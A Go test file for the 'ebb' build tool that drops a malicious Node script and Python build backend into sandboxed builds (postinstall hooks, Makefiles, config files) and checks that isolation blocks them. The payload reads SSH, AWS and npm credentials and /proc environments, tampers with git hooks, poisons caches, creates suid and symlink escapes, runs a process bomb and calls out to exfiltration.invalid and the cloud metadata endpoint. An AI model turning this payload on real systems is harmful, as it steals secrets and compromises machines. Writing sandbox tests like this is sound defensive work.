package test

import (
	"archive/tar"
	"bufio"
	"bytes"
	"compress/gzip"
	"context"
	"encoding/json"
	"fmt"
	"io/fs"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/ebb-run/ebb/internal/testkit/executable"
)

// attackJS tries what a script of a build could want, and gives what came of it as lines "row: what".
const attackJS = `
const fs = require('fs'), cp = require('child_process'), path = require('path'), http = require('http')
const C = CONFIG
module.exports = async () => {
  const broke = []
  const attempt = (row, f) => { try { const r = f(); if (r && row) broke.push(row + ': ' + String(r).slice(0, 200)) } catch (e) {} }
  for (const f of C.secrets) attempt('secrets', () => { fs.readFileSync(f); return f })
  attempt('environment', () => Object.keys(process.env).filter((k) => process.env[k].includes(C.canary)).join())
  for (const pid of fs.readdirSync('/proc').filter((n) => /^[0-9]+$/.test(n))) {
    attempt('processes', () => fs.readFileSync('/proc/' + pid + '/environ', 'utf8').includes(C.canary) && 'environment of ' + pid)
    attempt('processes', () => fs.readFileSync('/proc/' + pid + '/cmdline', 'utf8').includes('ebb\0up') && 'ebb is process ' + pid)
  }
  for (const d of C.neighbours) {
    attempt('neighbours', () => fs.readdirSync(d).length && d)
    attempt('writes', () => { fs.writeFileSync(path.join(d, 'written'), ''); return d })
  }
  for (const f of ['package.json', 'serverless.yml', '.git/hooks/post-commit', '.npmrc', 'tampered.js'])
    attempt('', () => { fs.mkdirSync(path.dirname(path.join(C.project, f)), { recursive: true }); fs.appendFileSync(path.join(C.project, f), '\n#tampered') })
  for (const d of [process.env.npm_config_cache, process.env.PIP_CACHE_DIR, process.env.GOMODCACHE, '/ebb-cache/npm', C.shared])
    attempt('', () => { fs.mkdirSync(d, { recursive: true }); fs.writeFileSync(path.join(d, 'poison'), '') })
  for (const n of ['npm', 'node', 'git', 'make', 'sh'])
    attempt('', () => { const f = path.join(C.project, 'node_modules/.bin', n); fs.mkdirSync(path.dirname(f), { recursive: true }); fs.rmSync(f, { force: true })
      fs.writeFileSync(f, '#!/bin/sh\ntouch ' + C.home + '/pwned\nexit 1\n', { mode: 0o755 }) })
  const out = process.env.ATTACK_OUT || C.out
  attempt('', () => fs.mkdirSync(out, { recursive: true }))
  for (const [name, to] of [['absolute', C.secrets[0]], ['relative', '../'.repeat(12) + C.secrets[0].slice(1)], ['proc', '/proc/self/root' + C.secrets[0]]])
    attempt('', () => fs.symlinkSync(to, path.join(out, 'link-' + name)))
  attempt('', () => { fs.writeFileSync(path.join(out, 'suid'), '#!/bin/sh\n'); fs.chmodSync(path.join(out, 'suid'), 0o6755) })
  attempt('', () => cp.execFileSync('mkfifo', [path.join(out, 'fifo')], { stdio: 'ignore' }))
  attempt('', () => cp.spawn('setsid', ['sleep', C.marker], { detached: true, stdio: 'ignore' }).on('error', () => {}).unref())
  for (const url of [C.url, 'http://exfiltration.invalid/', 'http://169.254.169.254/latest/'])
    await new Promise((done) => {
      const r = http.get(url, { timeout: 5000 }, (a) => { broke.push('exfiltration: ' + url); a.resume(); done() })
      r.on('error', () => done()); r.on('timeout', () => { r.destroy(); done() })
    })
  if (C.bomb) {
    attempt('bomb', () => cp.spawnSync('sh', ['-c', 'i=0; while [ $i -lt 2500 ]; do sleep 61 >/dev/null 2>&1 & i=$((i+1)); done; echo all'], { timeout: 60000 }).stdout.includes('all') && 'all started')
    for (const pid of fs.readdirSync('/proc').filter((n) => /^[0-9]+$/.test(n)))
      attempt('', () => fs.readFileSync('/proc/' + pid + '/cmdline', 'utf8') === 'sleep\0' + '61\0' && process.kill(Number(pid), 'SIGKILL'))
  }
  attempt('', () => fs.writeFileSync(C.home + '/report.json', JSON.stringify(broke)))
  return broke
}
if (require.main === module) module.exports().then((b) => { process.stdout.write('REPORT' + JSON.stringify(b) + '\n')
  if (process.argv[2]) fs.writeFileSync(process.argv[2], JSON.stringify(b)); process.exit(0) })
`

const attackBackend = `import os, subprocess, zipfile
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    out = subprocess.run(['node', os.path.join(os.getcwd(), 'attack.js')], stdout=subprocess.PIPE, env=dict(os.environ, ATTACK_OUT=os.path.join(os.getcwd(), 'out'))).stdout.decode()
    report = [l[6:] for l in out.splitlines() if l.startswith('REPORT')][0]
    name = 'evil-1-py3-none-any.whl'
    with zipfile.ZipFile(os.path.join(wheel_directory, name), 'w') as z:
        z.writestr('evil_report.json', report)
        z.writestr('evil.py', '')
        z.writestr('evil-1.dist-info/METADATA', 'Metadata-Version: 2.1\nName: evil\nVersion: 1\n')
        z.writestr('evil-1.dist-info/WHEEL', 'Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n')
        z.writestr('evil-1.dist-info/RECORD', '')
    return name
`

// stage is a machine's home, projects and servers, with baits in them.
type stage struct {
	t                               *testing.T
	dir, home, project, bin, marker string
	canary                          string
	hits                            atomic.Int64
	server                          *httptest.Server
	rootless, plain                 bool
	before                          map[string]string
	flags, env                      []string // further ones for ebb
}

const user = 65533 // a user of the rootless mode: nobody's

// newStage writes a project. In its files @ATTACK@ stands for the attack's text.
func newStage(t *testing.T, mode string, bomb bool, out string, files map[string]string) *stage {
	t.Helper()
	dir := t.TempDir()
	s := &stage{t: t, dir: dir, home: filepath.Join(dir, "home"), project: filepath.Join(dir, "work", "shop"), rootless: mode == "rootless", plain: mode == "plain",
		canary: fmt.Sprintf("canary-%d", time.Now().UnixNano()), marker: fmt.Sprint(1_000_000 + time.Now().UnixNano()%1_000_000_000)}
	s.server = httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { s.hits.Add(1) }))
	t.Cleanup(s.server.Close)
	secrets := []string{}
	for _, f := range []string{".ssh/id_rsa", ".aws/credentials", ".npmrc", ".git-credentials"} {
		write(t, filepath.Join(s.home, f), "//127.0.0.1:1/:_authToken="+s.canary+"\n")
		secrets = append(secrets, filepath.Join(s.home, f))
	}
	if !s.rootless && os.Geteuid() == 0 {
		secrets = append(secrets, "/etc/shadow")
	}
	write(t, filepath.Join(dir, "work", "other", "secret.js"), s.canary)
	config, err := json.Marshal(map[string]any{
		"secrets": secrets[:len(secrets):len(secrets)], "canary": s.canary, "home": s.home, "project": s.project, "url": s.server.URL, "marker": s.marker, "bomb": bomb && !s.plain,
		"neighbours": []string{s.home, filepath.Join(dir, "work", "other")}, "out": filepath.Join(s.project, out), "shared": filepath.Join(s.home, ".cache", "ebb", "builds", "shared"),
	})
	if err != nil {
		t.Fatal(err)
	}
	attack := strings.Replace(attackJS, "CONFIG", string(config), 1)
	for name, text := range files {
		if name == "evil.tgz" {
			text = packed(t, map[string]string{"package/package.json": text, "package/index.js": "", "package/attack.js": attack})
		}
		write(t, filepath.Join(s.project, name), strings.Replace(text, "@ATTACK@", attack, 1))
	}
	write(t, filepath.Join(s.project, ".git", "config"), "")
	program, err := os.ReadFile(ebb.Path)
	if err != nil {
		t.Fatal(err)
	}
	s.bin = filepath.Join(dir, "bin", "ebb")
	write(t, s.bin, "#!")
	if err := executable.Write(s.bin, program); err != nil {
		t.Fatal(err)
	}
	if s.rootless {
		if err := os.Chmod(filepath.Dir(dir), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := filepath.WalkDir(dir, func(p string, _ fs.DirEntry, err error) error { return os.Lchown(p, user, user) }); err != nil {
			t.Fatal(err)
		}
	}
	s.before = s.content()
	return s
}

// packed is a package as registries have it.
func packed(t *testing.T, files map[string]string) string {
	t.Helper()
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	w := tar.NewWriter(z)
	for name, text := range files {
		if err := w.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(text))}); err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte(text)); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// content is all of the project that a build has no business with.
func (s *stage) content() map[string]string {
	all := map[string]string{}
	err := filepath.WalkDir(s.project, func(p string, d fs.DirEntry, err error) error {
		switch {
		case err != nil:
			return err
		case d.IsDir() && slices.Contains([]string{"node_modules", ".ebb", "out", "__pycache__"}, d.Name()):
			return fs.SkipDir
		case d.Type().IsRegular():
			text, err := os.ReadFile(p)
			all[p] = string(text)
			return err
		}
		return nil
	})
	if err != nil {
		s.t.Fatal(err)
	}
	return all
}

// command is ebb in the project, with the home and its secrets.
func (s *stage) command(ctx context.Context, args ...string) *exec.Cmd {
	cmd := exec.CommandContext(ctx, s.bin, args...)
	if s.plain {
		cmd.Args = append(cmd.Args, "--isolation", "none")
	}
	cmd.Dir = s.project
	cmd.Env = append(os.Environ(), "HOME="+s.home, "XDG_CACHE_HOME="+filepath.Join(s.home, ".cache"), "NO_COLOR=1", "AWS_SECRET_ACCESS_KEY="+s.canary, "NPM_TOKEN="+s.canary,
		"PIP_INDEX_URL=http://user:"+s.canary+"@127.0.0.1:1/simple", "SSH_AUTH_SOCK="+s.home+"/agent")
	cmd.Env = append(cmd.Env, s.env...)
	if s.rootless {
		cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: user, Gid: user}}
	}
	return cmd
}

// up runs `ebb up` until it is ready, and gives what it printed.
func (s *stage) up() string {
	s.t.Helper()
	ctx, cancel := context.WithTimeout(s.t.Context(), 3*time.Minute)
	defer cancel()
	cmd := s.command(ctx, append([]string{"up", "--no-watch", "--listen", "127.0.0.1:0", "--json"}, s.flags...)...)
	var said, warned bytes.Buffer
	cmd.Stderr = &warned
	out, err := cmd.StdoutPipe()
	if err != nil {
		s.t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		s.t.Fatal(err)
	}
	ready := false
	for lines := bufio.NewScanner(out); !ready && lines.Scan(); {
		said.WriteString(lines.Text() + "\n")
		ready = strings.Contains(lines.Text(), `"event":"ready"`)
	}
	_ = cmd.Process.Signal(syscall.SIGINT)
	_ = cmd.Wait()
	said.Write(warned.Bytes())
	if !ready && !s.plain { // there the project is not what it was
		s.t.Fatalf("ebb up did not become ready:\n%s", said.String())
	}
	return said.String()
}

// harm is what is wrong on the machine after a build, in the words of the report.
func (s *stage) harm() []string {
	var all []string
	for p, text := range s.content() {
		if before, was := s.before[p]; !was || before != text {
			all = append(all, "tampering: "+p)
		}
	}
	for _, p := range processes(s.marker) {
		all = append(all, "daemon: process "+p)
	}
	if n := s.hits.Load(); n > 0 {
		all = append(all, fmt.Sprintf("exfiltration: %d requests came", n))
	}
	for _, dir := range []string{filepath.Join(s.home, ".cache", "ebb", "builds", "shared"), filepath.Join(s.home, ".npm")} {
		_ = filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
			if err == nil && d.Name() == "poison" {
				all = append(all, "cache: "+p)
			}
			return nil
		})
	}
	if _, err := os.Stat(filepath.Join(s.home, "pwned")); err == nil {
		all = append(all, "later steps: a program in node_modules/.bin was run on this machine")
	}
	_ = filepath.WalkDir(s.project, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return nil
		}
		info, ierr := d.Info()
		switch {
		case d.Name() == ".ebb":
			return fs.SkipDir
		case ierr != nil:
		case info.Mode()&(fs.ModeSetuid|fs.ModeSetgid|fs.ModeNamedPipe|fs.ModeSocket|fs.ModeDevice) != 0:
			all = append(all, "left behind: "+info.Mode().String()+" "+p)
		case info.Mode()&fs.ModeSymlink != 0:
			if real, err := filepath.EvalSymlinks(p); err != nil || !strings.HasPrefix(real, s.project+"/") {
				all = append(all, "left behind: link "+p)
			}
		}
		return nil
	})
	return all
}

// processes lists those that have a word among their arguments.
func processes(word string) []string {
	var all []string
	list, _ := filepath.Glob("/proc/[0-9]*/cmdline")
	for _, p := range list {
		if text, err := os.ReadFile(p); err == nil && slices.Contains(strings.Split(string(text), "\x00"), word) {
			all = append(all, filepath.Base(filepath.Dir(p)))
		}
	}
	return all
}

// report reads what the attack said of itself.
func (s *stage) report(text []byte) []string {
	s.t.Helper()
	var broke []string
	if err := json.Unmarshal(text, &broke); err != nil {
		s.t.Fatalf("the attack's report: %v: %s", err, text)
	}
	return broke
}

func (s *stage) read(pattern string) []byte {
	s.t.Helper()
	pattern = filepath.Join(s.project, pattern)
	if s.plain { // there the project is not what it was
		pattern = filepath.Join(s.home, "report.json")
	}
	list, _ := filepath.Glob(pattern)
	if len(list) != 1 {
		s.t.Fatalf("%s is %v", pattern, list)
	}
	text, err := os.ReadFile(list[0])
	if err != nil {
		s.t.Fatal(err)
	}
	return text
}

const oneNode = "service: shop\nprovider: {name: aws, runtime: nodejs20.x}\nfunctions: {f: {handler: h.f}}\n"

// builders are the ways in which a project's own code gets to run in a build.
var builders = []struct {
	name, needs string
	out         string // where the attack leaves things
	files       map[string]string
	run         func(s *stage) []byte // gives the report
}{
	{"postinstall of a dependency", "npm", "node_modules/evil/out", map[string]string{
		"serverless.yml": oneNode, "h.js": "exports.f = async () => require('evil')", "package.json": `{"name":"shop","version":"1.0.0","dependencies":{"evil":"file:evil.tgz"}}`,
		"evil.tgz": `{"name":"evil","version":"1.0.0","scripts":{"postinstall":"node attack.js report.json"}}`,
	}, func(s *stage) []byte { s.up(); return s.read("node_modules/evil/report.json") }},
	{"script of the project's own", "npm", "node_modules/evil/out", map[string]string{
		"serverless.yml": oneNode, "h.js": "exports.f = async () => require('evil')", "package.json": `{"name":"shop","version":"1.0.0","dependencies":{"evil":"file:evil.tgz"},"scripts":{"postinstall":"node attack.js node_modules/report.json"}}`,
		"evil.tgz": `{"name":"evil","version":"1.0.0"}`, "attack.js": "@ATTACK@",
	}, func(s *stage) []byte { s.up(); return s.read("node_modules/report.json") }},
	{"build backend of a Python package", "python3", "out", map[string]string{
		"serverless.yml": "service: shop\nprovider: {name: aws, runtime: python3.11}\nfunctions: {f: {handler: h.f}}\n", "h.py": "def f(e, c): pass\n", "requirements.txt": "./evil\n",
		"evil/pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n[project]\nname = \"evil\"\nversion = \"1\"\n",
		"evil/backend.py":     attackBackend, "evil/attack.js": "@ATTACK@",
	}, func(s *stage) []byte { s.up(); return s.read(".ebb/build/pip-*/evil_report.json") }},
	{"Makefile", "make", "out/more", map[string]string{
		"serverless.yml": "service: shop\nprovider: {name: aws, runtime: provided.al2023}\nfunctions: {f: {handler: bootstrap, package: {artifact: out/f}}}\n",
		"main.go":        "package main\n\nfunc main() {}\n", "go.mod": "module shop\n", "attack.js": "@ATTACK@",
		"Makefile": "build:\n\tmkdir -p out/f\n\tcp main.go out/f/bootstrap\n\tnode attack.js out/f/report.json\n",
	}, func(s *stage) []byte { s.up(); return s.read("out/f/report.json") }},
	{"configuration that is a program", "node", "out", map[string]string{
		"serverless.yml": "service: shop\nprovider: {name: aws, runtime: nodejs20.x}\nfunctions: {f: {handler: h.f, environment: {REPORT: '${file(./attack.js):report}'}}}\n",
		"h.js":           "exports.f = async () => 1", "attack.js": "@ATTACK@\nconst attack = module.exports; module.exports = async () => ({ report: JSON.stringify(await attack()) })\n",
	}, inspected},
	{"project file in TypeScript", "node", "out", map[string]string{
		"serverless.ts": "const attack: any = require('./attack.js');\ninterface Report { REPORT: string }\nmodule.exports = (async () => {\n  const environment: Report = { REPORT: JSON.stringify(await attack()) };\n" +
			"  return { service: 'shop', provider: { name: 'aws', runtime: 'nodejs20.x' }, functions: { f: { handler: 'h.f', environment } } };\n})();\n",
		"h.js": "exports.f = async () => 1", "attack.js": "@ATTACK@",
	}, inspected},
}

// inspected gives the report that a project file has put into an environment.
func inspected(s *stage) []byte {
	out, err := s.command(s.t.Context(), "inspect", "--json").Output()
	if err != nil {
		s.t.Fatalf("ebb inspect: %v\n%s", err, out)
	}
	var a struct {
		Functions []struct{ Env map[string]any }
	}
	if err := json.Unmarshal(out, &a); err != nil || len(a.Functions) != 1 {
		s.t.Fatalf("got %s (%v)", out, err)
	}
	return []byte(fmt.Sprint(a.Functions[0].Env["REPORT"]))
}

func TestBuilds_HostileScriptsReachNothing(t *testing.T) {
	needIsolation(t)
	if _, err := exec.LookPath("node"); err != nil {
		t.Skip("the attack is written for Node, which is not here")
	}
	modes, found := []string{"isolated", "rootless", "plain"}, map[string]verdict{}
	for _, mode := range modes {
		found[mode] = verdict{}
		for _, n := range namers {
			t.Run(mode+"/"+n.name, func(t *testing.T) {
				if mode == "rootless" && os.Geteuid() != 0 {
					t.Skip("all of it is rootless here")
				}
				for _, b := range named(t, mode, n.files, n.refused, false) {
					found[mode]["files"] = true
					t.Error("the project got through: ", b)
				}
			})
		}
		for _, b := range builders {
			t.Run(mode+"/"+b.name, func(t *testing.T) {
				if mode == "rootless" && os.Geteuid() != 0 {
					t.Skip("all of it is rootless here")
				}
				if _, err := exec.LookPath(b.needs); err != nil {
					t.Skipf("%s is not here", b.needs)
				}
				if mode == "rootless" && b.needs == "python3" {
					t.Skip("the interpreters of root's home are not this user's")
				}
				s := newStage(t, mode, mode == "isolated", b.out, b.files)
				broke := append(s.report(b.run(s)), s.harm()...)
				for _, pid := range processes(s.marker) { // of the plain mode
					_ = exec.Command("kill", "-9", pid).Run()
				}
				for _, w := range wrongs {
					found[mode][w.row] = found[mode][w.row] || slices.ContainsFunc(broke, func(b string) bool { return strings.HasPrefix(b, w.row+": ") })
				}
				switch {
				case mode != "plain":
					for _, b := range broke {
						t.Error("the script got through: ", b)
					}
				case !slices.ContainsFunc(broke, func(s string) bool { return strings.HasPrefix(s, "secrets: ") }):
					t.Errorf("without isolation the attack does nothing either: %v", broke)
				}
			})
		}
	}
	if *buildsTable != "" && !t.Failed() {
		tabulate(t, modes, found)
	}
}
